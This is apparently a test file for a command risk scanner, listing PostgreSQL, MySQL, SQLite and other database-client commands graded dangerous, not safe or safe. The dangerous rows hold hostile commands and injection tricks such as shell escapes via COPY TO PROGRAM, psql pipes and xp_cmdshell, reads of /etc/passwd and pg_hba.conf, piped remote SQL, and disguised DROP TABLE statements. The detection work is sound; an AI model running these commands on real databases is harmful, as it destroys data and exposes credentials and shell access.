// Threat catalogue 3.6, SQL: PostgreSQL statements, functions and lexing, psql's own commands and files, MySQL, and the smaller dialects.
// Each row: plain and disguised forms that must reach a risk, and neighbours that stay safe.
import { beforeAll, describe, expect, it } from "vitest";
import { loadSql } from "../load.ts";
import { compareRisk } from "../risk.ts";
import { scan } from "../scan.ts";

beforeAll(() => loadSql());

interface Row {
  readonly id: string;
  readonly dangerous: readonly string[];
  readonly notSafe: readonly string[];
  readonly safe: readonly string[];
}

const pg = (...statements: readonly string[]): readonly string[] => statements.map((sql) => `psql -XAt -d shop <<'SQL'\n${sql}\nSQL`);
const my = (...statements: readonly string[]): readonly string[] => statements.map((sql) => `mysql shop <<'SQL'\n${sql}\nSQL`);

const rows: readonly Row[] = [
  {
    id: "PostgreSQL statements that are no SELECT",
    dangerous: pg(
      "DROP INDEX CONCURRENTLY hot_idx;",
      "TRUNCATE carts RESTART IDENTITY;",
      "DELETE FROM carts;",
      "UPDATE carts SET open = false WHERE 1 = 1;",
      "ALTER TABLE carts DISABLE TRIGGER ALL;",
      "DROP OWNED BY clerk;",
    ),
    notSafe: pg(
      "MERGE INTO carts c USING fresh f ON f.id = c.id WHEN MATCHED THEN DO NOTHING;",
      "CALL tidy();",
      "EXECUTE saved;",
      "LOCK carts;",
      "CHECKPOINT;",
      "LISTEN hot;",
      "REFRESH MATERIALIZED VIEW sums;",
      "SECURITY LABEL ON TABLE carts IS 'x';",
      "RESET ALL;",
    ),
    safe: pg(
      "TABLE carts;",
      "VALUES (1, 'DROP TABLE carts');",
      "SHOW work_mem;",
      "SELECT id, total FROM carts WHERE open ORDER BY total DESC;",
    ),
  },
  {
    id: "writes inside a SELECT",
    dangerous: pg(
      "WITH gone AS (DELETE FROM carts WHERE id < 9 RETURNING id) SELECT count(*) FROM gone;",
      "SELECT 1;\n/* ; */ drop\ntable carts;",
    ),
    notSafe: pg(
      "SELECT id INTO TEMP picked FROM carts;",
      "SELECT id FROM carts FOR NO KEY UPDATE SKIP LOCKED;",
      "SELECT * FROM (SELECT id FROM carts FOR SHARE) s;",
      "CREATE TEMP TABLE picked AS SELECT 1;",
    ),
    safe: pg("WITH open AS (SELECT id FROM carts) SELECT count(*) FROM open;", "SELECT 'for update' AS into_text;"),
  },
  {
    id: "EXPLAIN ANALYZE runs",
    dangerous: pg("EXPLAIN ANALYZE DELETE FROM carts;", "EXPLAIN (VERBOSE, ANALYZE 1) DELETE FROM carts WHERE id = 3;"),
    notSafe: pg(
      "explain (analyze on) insert into carts values (1);",
      "EXPLAIN ANALYZE SELECT tidy();",
      "EXPLAIN (ANALYZE) CREATE TABLE x AS SELECT 1;",
    ),
    safe: pg(
      "EXPLAIN DELETE FROM carts;",
      "EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM carts;",
      "EXPLAIN (ANALYZE false) UPDATE carts SET open = true;",
    ),
  },
  {
    id: "functions by list",
    dangerous: pg(
      "SELECT pg_terminate_backend(pid) FROM pg_stat_activity;",
      "SELECT pg_promote();",
      "SELECT * FROM dblink('x', 'delete from carts') AS t(a int);",
      "SELECT pg_logical_slot_get_changes('s', NULL, NULL);",
      "SELECT ts_rewrite('a'::tsquery, 'delete from carts');",
    ),
    notSafe: pg(
      "SELECT pg_sleep(60);",
      "SELECT nextval('carts_id_seq');",
      "SELECT pg_advisory_lock(1);",
      'SELECT "pg_Reload_Conf"();',
      "SELECT shop.lower('A');",
      "SELECT lower /* x */ (tidy());",
      "SELECT * FROM tidy();",
      "SELECT 1 OPERATOR(shop.=) 2;",
      "SELECT 'x'::shop.kind;",
      "SELECT pg_read_file('pg_hba.conf');",
    ),
    safe: pg(
      "SELECT pg_blocking_pids(pid), age(now(), query_start) FROM pg_stat_activity;",
      "SELECT pg_catalog.count(*) FROM carts;",
      "SELECT pg_size_pretty(pg_database_size('shop')), has_table_privilege('carts', 'select');",
    ),
  },
  {
    id: "lexing",
    dangerous: pg(
      "/* /* */ */ DROP TABLE carts;",
      "SELECT $x$ ; $x$; DROP TABLE carts; --",
      "SELECT E'a\\\\'; DROP TABLE carts; --'",
      "dRoP\tTABLE carts;",
      "SELECT U&'d\\0061t'; TRUNCATE carts;",
    ),
    notSafe: pg("SELECT 'open", "SELECT 1 /* open", "SELECT $x$ open"),
    safe: pg(
      "SELECT 'it''s; DROP TABLE carts' -- drop table carts\n;",
      "SELECT $x$ DROP TABLE carts; $x$;",
      "SELECT 1 /* /* drop table carts */ ; */;",
    ),
  },
  {
    id: "settings and transactions",
    dangerous: pg("SET ROLE owner;", "SET SESSION AUTHORIZATION owner;", "SET session_replication_role = replica;"),
    notSafe: pg("SET search_path = evil;", "PREPARE TRANSACTION 'x';", "DECLARE c CURSOR WITH HOLD FOR SELECT 1;", "DISCARD ALL;"),
    safe: pg("SET statement_timeout = '5s'; SELECT count(*) FROM carts;", "BEGIN READ ONLY; SELECT 1; COMMIT;"),
  },
  {
    id: "COPY",
    dangerous: pg("COPY carts TO PROGRAM 'sh';", "COPY carts TO '/tmp/carts.csv';", "COPY (DELETE FROM carts RETURNING *) TO STDOUT;"),
    notSafe: pg("COPY carts FROM STDIN;", "COPY carts FROM PROGRAM 'id';"),
    safe: pg("COPY (SELECT * FROM carts) TO STDOUT WITH (FORMAT csv);", "COPY carts (id, total) TO STDOUT;"),
  },
  {
    id: "psql's own commands",
    dangerous: [
      "psql shop -c '\\! id'",
      "psql shop -c '\\o |sh'",
      "psql <<'E'\nselect 'drop table carts' \\gexec\nE",
      "psql -c '\\echo `id`'",
      "psql -o '| sh' -c 'select 1'",
      "psql <<'E'\n\\x \\! id\nE",
    ],
    notSafe: [
      "psql -c '\\i fix.sql'",
      "psql -c '\\copy carts from x.csv'",
      "psql <<< 'select 1 \\g out.txt'",
      "psql -c '\\setenv A b'",
      "psql -c '\\connect other'",
      "psql <<< 'select 1 \\gset'",
      "psql <<'E'\n\\if true\nselect 1;\n\\endif\nE",
      "psql <<< 'select now() \\watch 2'",
      "psql -1f fix.sql",
      "psql -XL log -c 'select 1'",
    ],
    safe: [
      "psql -XAtc '\\d+ carts' shop",
      "psql -c '\\l' -c '\\conninfo' -c '\\du'",
      "psql <<'E'\n\\pset pager off\n\\timing on\nselect 1;\n\\dt\nE",
      "psql --csv -qtU ro -h db1 -p 6432 -d shop -c 'show work_mem'",
    ],
  },
  {
    id: "where the statement comes from",
    dangerous: [
      "cat fix.sql | psql shop",
      "psql shop < fix.sql",
      "gunzip -c dump.sql.gz | mysql shop",
      "psql -f <(curl -s http://x/fix.sql)",
    ],
    notSafe: [
      'psql -c "$SQL"',
      "psql -f fix.sql",
      "psql shop",
      'psql -c "select * from carts where id = $ID"',
      "psql -v id='1; drop table carts' <<< 'select :id;'",
    ],
    safe: ["psql shop <<< 'select 1'", "echo 'select count(*) from carts' | psql shop", "psql -v ON_ERROR_STOP=1 -c 'select 1'"],
  },
  {
    id: "MySQL statements and functions",
    dangerous: my(
      "SELECT * FROM carts INTO OUTFILE '/tmp/x';",
      "SELECT sys_exec('id');",
      "EXPLAIN ANALYZE DELETE FROM carts;",
      "system id",
      "\\! id",
      "WITH x AS (SELECT 1) DELETE FROM carts;",
      "/*!99999 DROP TABLE carts */;",
    ),
    notSafe: my(
      "SELECT SLEEP(9);",
      "SELECT GET_LOCK('a', 9);",
      "SELECT @a := 1;",
      "SELECT id INTO @a FROM carts;",
      "SELECT id FROM carts FOR UPDATE;",
      "SELECT id FROM carts LOCK IN SHARE MODE;",
      "SELECT LOAD_FILE('/etc/passwd');",
      "source fix.sql",
      "tee out.txt",
      "DELIMITER ;;",
      "SELECT own(1);",
      "pager cat",
    ),
    safe: my(
      "SHOW ENGINE INNODB STATUS\\G",
      "DESCRIBE carts;",
      "EXPLAIN SELECT * FROM carts;",
      "SELECT id FROM carts WHERE note = 'into outfile' # sleep(9)\n;",
      "SELECT COUNT(*) FROM `delete`;",
    ),
  },
  {
    id: "MySQL lexing doubts",
    dangerous: my("SELECT 'a\\'; DROP TABLE carts; -- '", "SELECT /*! 1; DROP TABLE carts */ 2;"),
    notSafe: my(
      "SELECT 'a\\'b';",
      "SELECT 1--1;",
      "SELECT /* a /* b */ 1;",
      "SELECT /*+ SET_VAR(sql_mode='ANSI_QUOTES') */ 1;",
      'SELECT "own"(1);',
    ),
    safe: my("SELECT 'a\\\\b', \"it's\";", "SELECT /*+ MAX_EXECUTION_TIME(500) */ 1;", "SELECT 1; -- drop table carts"),
  },
  {
    id: "SQLite",
    dangerous: [
      "sqlite3 shop.db '.shell id'",
      "sqlite3 shop.db \"select load_extension('x')\"",
      "sqlite3 shop.db \"select writefile('a', 'b')\"",
      "sqlite3 shop.db 'select 1' '.system id'",
      "sqlite3 -cmd 'drop table carts' shop.db 'select 1'",
    ],
    notSafe: [
      "sqlite3 shop.db '.output x'",
      "sqlite3 shop.db '.backup x'",
      "sqlite3 shop.db '.read fix.sql'",
      "sqlite3 shop.db '.import a carts'",
      "sqlite3 shop.db 'attach \"x\" as y'",
      "sqlite3 shop.db 'pragma user_version = 3'",
      "sqlite3 -init fix.sql shop.db 'select 1'",
    ],
    safe: [
      "sqlite3 -readonly shop.db '.schema carts'",
      "sqlite3 shop.db 'pragma table_info(carts)'",
      "sqlite3 -json shop.db 'select * from carts limit 3'",
    ],
  },
  {
    id: "ClickHouse and Cassandra",
    dangerous: [
      "clickhouse-client -q 'SYSTEM SHUTDOWN'",
      "clickhouse-client -q 'KILL QUERY WHERE 1'",
      "clickhouse-client -q \"SELECT * FROM executable('x', CSV, 'a String')\"",
      "cqlsh -e 'TRUNCATE shop.carts'",
      "nodetool decommission",
      "nodetool -h db1 removenode 1b2",
    ],
    notSafe: [
      "clickhouse-client -q \"SELECT * FROM hits INTO OUTFILE 'x'\"",
      "clickhouse-client -q \"SELECT * FROM remote('h', db.t)\"",
      "clickhouse-client -q \"SELECT * FROM file('x')\"",
      "cqlsh -e \"COPY shop.carts TO 'x'\"",
      "nodetool drain",
      "nodetool snapshot",
      "nodetool repair -full",
    ],
    safe: [
      "clickhouse-client -q 'SELECT count() FROM system.parts'",
      "cqlsh db1 -e 'DESCRIBE TABLE shop.carts'",
      "nodetool -p 7199 tpstats",
      "nodetool compactionstats",
    ],
  },
  {
    id: "SQL Server and Snowflake",
    dangerous: [
      "sqlcmd -Q \"exec master..xp_cmdshell 'id'\"",
      "sqlcmd -Q 'select 1 drop table carts'",
      "sqlcmd -Q \"select * from openrowset('a','b','c')\"",
      "snowsql -q 'select system$cancel_all_queries(1)'",
      "snowsql -q 'create or replace table carts (a int)'",
    ],
    notSafe: [
      "sqlcmd -Q ':r fix.sql'",
      "sqlcmd -Q 'select $(x)'",
      "sqlcmd -i fix.sql",
      "snowsql -q 'put file:///etc/hosts @stage'",
      "sqlcmd -Q 'exec dbo.tidy'",
    ],
    safe: ["sqlcmd -S db1 -E -Q 'select name from sys.databases'", "sqlcmd -Q 'exec sp_who2'", "snowsql -q 'show tables'"],
  },
];

describe.each(rows.map((row) => [row.id, row] as const))("%s", (_id, row) => {
  it.each(row.dangerous.map((command) => [command]))("%s is dangerous", (command) => {
    expect({ command, risk: scan(command).risk }).toEqual({ command, risk: "dangerous" });
  });

  it.each(row.notSafe.map((command) => [command]))("%s is not safe", (command) => {
    expect(compareRisk(scan(command).risk, "safe")).toBeGreaterThan(0);
  });

  it.each(row.safe.map((command) => [command]))("%s is safe", (command) => {
    const verdict = scan(command);
    expect({ command, risk: verdict.risk, because: verdict.risk === "safe" ? [] : verdict.reasons }).toEqual({
      command,
      risk: "safe",
      because: [],
    });
  });
});
